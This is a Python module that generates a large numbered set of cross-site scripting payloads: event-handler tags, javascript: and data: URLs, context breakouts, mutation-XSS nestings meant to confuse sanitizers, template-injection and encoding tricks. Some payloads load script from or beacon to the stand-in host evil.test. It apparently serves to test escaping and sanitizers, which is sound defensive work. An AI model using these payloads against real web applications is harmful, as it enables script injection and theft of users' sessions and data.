"""Texts that would run as a script where they are not escaped, put together from parts.

``hit`` and ``alert`` are what they call, with the number of the payload, or a file of a foreign
host of that number.
"""

from base64 import b64encode
from collections.abc import Iterator, Sequence
from itertools import chain, cycle, product

FOREIGN = "evil.test"
SHORT = 200  # characters that a title takes

_CALLS = (
    "hit({n})",
    "alert({n})",
    "top['hit']({n})",
    "(0,hit)({n})",
    "self[`h`+`it`]({n})",
    "setTimeout`hit\\x28{n}\\x29`",
    "\\u0068it({n})",
    "import('//evil.test/{n}.js')",
    "new Image().src='//evil.test/{n}.gif'",
)
_TAGS = (
    *("img", "svg", "video", "audio", "body", "input", "details", "iframe", "object", "marquee"),
    *("select", "textarea", "math", "style", "link", "form", "button", "a", "div", "x-y", "p"),
    *("animate", "embed", "image", "table", "td", "b", "span", "figure", "ul", "h2", "IMG", "sVg"),
)
_HANDLERS = (
    "src={s}x onerror",
    "onload",
    "autofocus{s}tabindex=1 onfocus",
    "open ontoggle",
    "onbegin",
    "onmouseover",
    "ONCLICK",
    "onpointerenter",
    "style=animation:x{s}onanimationstart",
    "oNpAgEsHoW",
    "contenteditable onbeforeinput",
    "src=/favicon.svg onload",
    "onresize",
    "onscrollend",
    "popover{s}onbeforetoggle",
)
_SPACES = (" ", "/", "\t", "\n", "\f", " / ", "\r\n")
_QUOTES = ("", '"', "'", "`")
_SCHEMES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "java&#10;script:{c}",
    "&#106;avascript:{c}",
    "&#x6A&#x61vascript&colon;{c}",
    " \x01javascript:{c}",
    "javascript&#58;//%0a{c}",
    "javascript://evil.test/%0d{c}",
    "vbscript:{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,{b}",
    "//evil.test/{n}.html",
    "\\\\evil.test/{n}.html",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
)
_CARRIERS = (
    '<a href="{u}">x</a>',
    '<form action="{u}"><input type=submit></form>',
    '<button form=f formaction="{u}">x</button>',
    '<iframe src="{u}"></iframe>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<base href="{u}">',
    '<link rel=stylesheet href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<svg><a xlink:href="{u}"><text y=9>x</text></a></svg>',
    '<math href="{u}">x</math>',
    '<svg><a><animate attributeName=href values="{u}"/><text y=9>x</text></a></svg>',
    '<svg><script href="{u}"></script></svg>',
    '<script src="{u}"></script>',
    '<map><area href="{u}"></map>',
    '<iframe srcdoc="<a href={u}>x</a>"></iframe>',
)
_BREAKS = (
    *('">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>"),
    *("</template>", "</select>", "</svg>", "</option>", "</time>", "</a>", '\\">', "*/</style>"),
)
_CORES = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<script src=//evil.test/{n}.js></script>",
    '<iframe srcdoc="<script>parent.{c}</script>"></iframe>',
    "<details open ontoggle={c}>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<<script>{c}//<</script>",
    "<script\n>{c}</script\t>",
)
_ATTRIBUTES = (
    '" onfocus={c} autofocus x="',
    "' onmouseover={c} x='",
    '"onload={c} src="x',
    "` onerror={c} x=`",
    '" style="background:url(//evil.test/{n})" x="',
    '" href="javascript:{c}" x="',
    '" srcdoc="&lt;script&gt;{c}&lt;/script&gt;" x="',
)
# A sanitiser and a browser may disagree about what these hold.
_NESTS = (
    '<math><mtext><table><mglyph><style><!--</style><a title="--&gt;&lt;/mglyph&gt;{e}">{i}',
    '<svg></p><style><b id="</style>{i}">',
    '<noscript><p title="</noscript>{i}">',
    "<form><math><mtext></form><form><mglyph><style></math>{i}",
    "<svg><foreignObject><style><!--</style>{i}--></foreignObject></svg>",
    '<math><annotation-xml encoding="text/html"><style></math>{i}</style></annotation-xml>',
    '<svg><desc><title><b title="</title>{i}"></desc></svg>',
    "<table><td><svg><style>/*</style>{i}*/",
    "<select><template><style><!--</select></style>{i}",
    "<xmp><p title='</xmp>{i}'>",
    "<noembed><p title='</noembed>{i}'>",
    "<title><p title='</title>{i}'>",
    "<textarea><p title='</textarea>{i}'>",
    "<!--><p>{i}-->",
    "<!--x--!>{i}",
    "<![CDATA[><p>{i}]]>",
    "<?xml ><p>{i}?>",
    "</ x='>{i}'>",
    "<div><svg><p><style><g title='</style>{i}'>",
    "<svg><![CDATA[</svg>{i}]]></svg>",
    "<h2><a><table><a>{i}",
)
_WORDS = (
    "{{{{constructor.constructor('{c}')()}}}}",
    "{{% raw %}}<script>{c}</script>{{% endraw %}}",
    "${{{c}}}",
    "<%= {c} %>",
    "#{{{c}}}",
    "{{{{'<script>{c}</script>'|safe}}}}",
    '<b hx-get="//evil.test/{n}" hx-trigger=load hx-on::load="{c}">x</b>',
    '<b data-hx-on:click="{c}" data-hx-get=//evil.test/{n} data-hx-trigger=load>x</b>',
    "[x](javascript:{c})",
    '![x](x"onerror="{c})',
    "<javascript:{c}>",
    "[x]: javascript:{c}\n[x]",
    "`<img src=x onerror={c}>`",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "<\u017fcript>{c}</\u017fcript>",
    "<\u0131mg src=x onerror={c}>",
    "<img\u00a0src=x\u00a0onerror={c}>",
    "<img src=x\u2028onerror={c}>",
    "\u202e<script>{c}</script>",
    "<scr\u200bipt>{c}</script>",
    "\ufeff<script>{c}</script>",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "%3Cscript%3E{c}%3C/script%3E",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;img src=x onerror={c}&#62;",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "</script><script type=module>{c}",
    "<!--<script>{c}",
    "\\';{c}//",
    "\u2028{c}//",
)


def payloads() -> list[str]:
    """Write every payload, each with a number of its own; the same ones every time."""
    calls, spaces, quotes = cycle(_CALLS), cycle(_SPACES), cycle(_QUOTES)
    inner = cycle(_CORES[:4])
    found = list[str]()

    def call() -> str:
        return next(calls).format(n=len(found))

    for tag, handler in product(_TAGS, _HANDLERS):
        space, quote, code = next(spaces), next(quotes), call()
        code = _entities(code) if len(found) % 5 == 3 else code
        found.append(f"<{tag}{space}{handler.format(s=space)}={quote}{code}{quote}>")
    for scheme, carrier in product(_SCHEMES, _CARRIERS):
        code = call()
        encoded = b64encode(f"<script>{code}</script>".encode()).decode()
        address = scheme.format(c=code, b=encoded, n=len(found))
        found.append(carrier.format(u=address))
    for break_, core in product(_BREAKS, _CORES):
        found.append(break_ + core.format(c=call(), n=len(found)))
    for nest, attribute in chain(product(_NESTS, _CORES[1:5]), product(_BREAKS[:4], _ATTRIBUTES)):
        if nest in _NESTS:
            bad = next(inner).format(c=call(), n=len(found))
            found.append(
                nest.format(i=bad, e=_entities(bad)) + attribute.format(c=call(), n=len(found))
            )
        else:
            found.append(attribute.format(c=call(), n=len(found)))
    for words in _WORDS:
        found.extend(words.format(c=call(), n=len(found)) for _ in range(2))
    return list(dict.fromkeys(found))


def bundles(texts: Sequence[str], size: int) -> Iterator[str]:
    """Put many into one document; what leaves something open stands at the end of it."""
    for at in range(0, len(texts), size):
        some = sorted(texts[at : at + size], key=lambda one: one.count("<!") + one.count("title"))
        yield "\n".join(some)


def _entities(text: str) -> str:
    """Write a text in entities, as an attribute may hold it."""
    ways = ("&#{};", "&#x{:x};", "&#{:07}", "&#X{:X};")
    return "".join(way.format(ord(char)) for way, char in zip(cycle(ways), text, strict=False))
